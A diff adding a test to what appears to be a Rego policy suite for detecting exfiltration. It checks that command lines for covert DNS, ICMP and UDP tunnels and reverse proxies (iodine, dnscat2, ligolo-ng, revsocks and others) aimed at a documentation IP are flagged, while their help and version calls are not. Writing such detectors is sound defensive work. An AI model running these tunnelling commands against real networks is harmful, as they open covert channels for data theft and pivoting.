@@ -191,3 +191,18 @@ test_secret_variable_credential_to_its_service_passes if {
 		count(exfiltration.ask) == 0 with input as _with_hosts([_seg(0, c[0], {})], [c[1]])
 	}
 }
+
+test_covert_channels_and_pivots_ask if {
+	every argv in [
+		["iodine", "-f", "203.0.113.5", "t.example"], ["dnscat2", "--dns", "server=203.0.113.5", "x.example"],
+		["dns2tcpc", "-z", "t.example", "-r", "ssh", "203.0.113.5"], ["ptunnel-ng", "-p", "203.0.113.5", "-l", "2222"],
+		["hans", "-c", "203.0.113.5", "-p", "pw"], ["udp2raw", "-c", "-l0.0.0.0:3333", "-r203.0.113.5:4096"],
+		["gost", "-L=:8080", "-F=relay+tls://203.0.113.5:443"], ["sshuttle", "-r", "u@203.0.113.5", "0/0"],
+		["revsocks", "-connect", "203.0.113.5:8443"], ["ligolo-ng", "-connect", "203.0.113.5:11601"],
+	] {
+		count(exfiltration.ask) > 0 with input as _input([_seg(0, argv, {})], [])
+	}
+	every argv in [["iodine", "--help"], ["gost", "-V"], ["sshuttle", "--version"]] {
+		count(exfiltration.ask) == 0 with input as _input([_seg(0, argv, {})], [])
+	}
+}
